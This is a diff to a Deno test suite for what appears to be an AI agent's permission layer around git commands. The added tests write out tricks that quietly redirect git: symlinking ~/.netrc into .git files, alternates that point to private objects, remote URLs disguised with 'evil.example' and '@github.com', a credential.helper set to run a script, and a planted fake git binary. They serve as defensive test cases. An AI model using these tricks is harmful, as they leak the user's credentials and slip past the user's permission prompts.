@@ -369,7 +369,66 @@ Deno.test({
     );
     assertMatch(await at.run(fetch, { folder: `${at.folder}/b`, beforeYes }), /^exit code: 0/);
     await at.outside("rm -rf .git/branches; ln -s x .git/branches");
-    await assertRejects(() => at.run(fetch), Error, ".git cannot be opened in the sandbox");
+    assertMatch(await at.run(fetch), /^asked: may run any program/);
+  },
+});
+
+/** What makes git use other files, addresses or branches than a question says; `where` if the question says it. */
+const ELSEWHERE: [prepare: string, command: string, where?: string][] = [
+  ["ln -s ~/.netrc .git/packed-refs", "git push origin main"],
+  ["mkdir -p .git/info; ln -s ~/.netrc .git/info/grafts", "git push origin main"],
+  ["echo ~/x > .git/info/grafts", "git fetch"],
+  ["rm -r .git/refs/heads; ln -s ~ .git/refs/heads", "git fetch"],
+  ["echo ~/private/.git/objects > .git/objects/info/alternates", "git push"],
+  ["git remote set-url origin https://127.0.0.1:9/x@github.com/a/b.git", "git push"],
+  ["git remote set-url origin 'https://127.0.0.1:9?@github.com/a/b.git'", "git push"],
+  ["git remote set-url origin evil.example:foo@github.com:a/b.git", "git push"],
+  ["git config remote../up.git.url https://127.0.0.1:9/x", "git push ./up.git main"],
+  ["git config remote.origin.mirror true", "git push"],
+  ["git config remote.origin.fetch +refs/heads/*:refs/heads/*", "git fetch"],
+  ["git init -q --bare sub; git -C sub remote add origin https://127.0.0.1:9/x", "git -C sub push"],
+  ["mkdir sub; git config --global credential.helper '!./x.sh'", "git -C sub push"],
+  ["for i in 1 2 3; do git remote add r$i https://127.0.0.1:9/$i; done", "git fetch --all"],
+  [
+    "git config remote.https://127.0.0.1:9/y.fetch a:b",
+    "git fetch --all",
+    "https://127.0.0.1:9/x or https://127.0.0.1:9/y",
+  ],
+  [
+    "git remote add lazy https://127.0.0.1:9/y; git config remote.lazy.promisor true",
+    "git push origin main",
+    "https://127.0.0.1:9/x or https://127.0.0.1:9/y",
+  ],
+];
+for (const [prepare, command, where] of ELSEWHERE) {
+  Deno.test({
+    name: `R-21 git uses nothing that its question does not say: ${prepare.slice(0, 60)}`,
+    ignore,
+    async fn() {
+      await using at = await repository();
+      await at.outside("rm -rf .git/hooks; git remote add origin https://127.0.0.1:9/x");
+      if (where === undefined) at.allow("run_bash(git *)");
+      await at.outside(prepare);
+      const asked = await at.run(command);
+      if (where === undefined) assertMatch(asked, /^asked: may run any program/);
+      else assertStringIncludes(asked, where);
+    },
+  });
+}
+
+Deno.test({
+  name: "R-21 git with the user's credentials is the user's git, and alone in the repository",
+  ignore,
+  async fn() {
+    await using at = await repository();
+    await at.outside("rm -rf .git/hooks; git remote add origin https://127.0.0.1:9/x");
+    at.allow("run_bash(git fetch *)");
+    const plant = "printf '#!/bin/sh\\necho planted' > .venv/bin/git; chmod +x .venv/bin/git";
+    assertMatch(await at.run(`mkdir -p .venv/bin; ${plant}`), /^exit code: 0/);
+    assertMatch(await at.run("git fetch origin"), /^exit code: 128/);
+    using other = Deno.openSync(`${at.folder}/.git/.`);
+    other.lockSync(false);
+    await assertRejects(() => at.run("git fetch origin"), Error, "another command changes it");
   },
 });
 
@@ -427,7 +486,7 @@ Deno.test({
     const folder = `${at.folder}/new`;
     assertMatch(await at.run("git fetch origin", { folder }), MADE_BEFORE);
     await at.run("git fetch origin", { folder, beforeYes: () => Promise.resolve() });
-    assertEquals(await Deno.readTextFile(table), "");
+    assertEquals((await Deno.readTextFile(table)).includes(at.folder), false);
     assertEquals(
       await at.run("git fetch origin", { folder }),
       "asked: fetches from https://127.0.0.1:9/x with your credentials",
